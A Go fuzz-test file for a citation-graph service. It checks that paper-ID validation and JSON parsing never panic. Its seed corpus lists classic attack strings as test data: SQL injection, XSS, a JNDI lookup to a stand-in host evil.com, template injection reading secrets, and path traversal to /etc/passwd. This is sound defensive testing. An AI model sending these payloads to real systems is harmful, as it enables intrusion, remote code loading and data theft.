// Package security provides fuzz tests for the citegraph service's input
// handling. The primary invariant is that no input should cause a panic in
// JSON parsing or domain validation.
package security

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/helixir/citegraph-service/internal/domain"
)

// seedCrawlRequest mirrors the HTTP handler's request struct for fuzz
// testing without importing the internal server package. A nil MaxHops
// means the field was omitted and the server default applies.
type seedCrawlRequest struct {
	MaxHops *int `json:"max_hops"`
}

// FuzzPaperSourceID tests that arbitrary input used as a paper source
// identifier never causes a panic in JSON encoding/decoding or domain
// validation. This exercises the same code paths a seed crawl request
// traverses before reaching the database layer.
func FuzzPaperSourceID(f *testing.F) {
	// Seed corpus with interesting edge cases.
	seeds := []string{
		// SQL injection payloads
		"'; DROP TABLE papers; --",
		"1 OR 1=1",
		"' UNION SELECT * FROM papers --",
		"Robert'); DROP TABLE students;--",

		// XSS payloads
		"<script>alert('xss')</script>",
		`<img src=x onerror=alert('xss')>`,

		// Null bytes and control characters
		"id\x00with\x00nulls",
		"id\nwith\nnewlines",
		"id\twith\ttabs",

		// Unicode edge cases
		"",
		"\u200B", // zero-width space
		"\uFEFF", // BOM
		"\uFFFD", // replacement character
		"\U0001F4A9",
		"Schr\u00f6dinger",
		"\u202Eright-to-left\u202C",
		string([]byte{0xfe, 0xff}), // invalid UTF-8

		// Long strings
		strings.Repeat("a", 10000),
		strings.Repeat("\u00e9", 5000),

		// JNDI / template injection
		"${jndi:ldap://evil.com/a}",
		"{{.Env.SECRET}}",
		"${7*7}",

		// Path traversal
		"../../etc/passwd",

		// Plausible real identifiers
		"649def34f8be52c8b66281af98ae884c09aef38b",
		"arXiv:1706.03762",
		"10.1038/nature14539",

		// Empty and whitespace
		" ",
		"\t\n\r",
	}

	for _, seed := range seeds {
		f.Add(seed)
	}

	f.Fuzz(func(t *testing.T, sourceID string) {
		// Invariant 1: domain validation must never panic.
		paper := &domain.Paper{SourceID: sourceID}
		_ = paper.Validate()

		relation := &domain.PaperRelation{
			SourcePaperID: sourceID,
			TargetPaperID: "target",
			Type:          domain.RelationCitation,
			HopCount:      1,
		}
		_ = relation.Validate()

		// Invariant 2: JSON round-trip must never panic, and valid UTF-8
		// must survive it unchanged. Invalid UTF-8 is replaced with
		// U+FFFD by json.Marshal, which is expected and safe behavior.
		encoded, err := json.Marshal(map[string]string{"source_id": sourceID})
		if err != nil {
			return
		}
		var decoded map[string]string
		if err := json.Unmarshal(encoded, &decoded); err != nil {
			return
		}
		if utf8.ValidString(sourceID) && decoded["source_id"] != sourceID {
			t.Errorf("JSON round-trip changed valid UTF-8 source ID:\n  original: %q\n  decoded:  %q", sourceID, decoded["source_id"])
		}
	})
}

// FuzzSeedCrawlBody tests that arbitrary bytes sent as a seed crawl
// request body never cause a panic in the JSON unmarshaling path or in
// the hop budget checks that follow it.
func FuzzSeedCrawlBody(f *testing.F) {
	f.Add([]byte(`{"max_hops":2}`))
	f.Add([]byte(`{}`))
	f.Add([]byte(`{"max_hops":0}`))
	f.Add([]byte(`{"max_hops":-1}`))
	f.Add([]byte(`{"max_hops":null}`))
	f.Add([]byte(`{"max_hops":"two"}`))
	f.Add([]byte(`{"max_hops":2.5}`))
	f.Add([]byte(`{"max_hops":9999999999999999999}`))
	f.Add([]byte(`not json at all`))
	f.Add([]byte(`{"max_hops":2,"extra":"b"}`))
	f.Add([]byte{0x00})
	f.Add([]byte{0xff, 0xfe})
	f.Add([]byte(`{` + strings.Repeat(`"k":`, 100) + `"v"}`))

	f.Fuzz(func(t *testing.T, data []byte) {
		// Invariant: Unmarshal must never panic regardless of input.
		var req seedCrawlRequest
		if err := json.Unmarshal(data, &req); err != nil {
			return
		}

		// The hop budget checks the handler applies must not panic either.
		maxHops := 2
		if req.MaxHops != nil {
			maxHops = *req.MaxHops
		}
		_ = maxHops < 1
		_ = maxHops > 10

		params := domain.TaskParameters{HopCount: 0, MaxHops: maxHops}
		if _, err := json.Marshal(params); err != nil {
			t.Errorf("marshaling task parameters failed: %v", err)
		}
	})
}
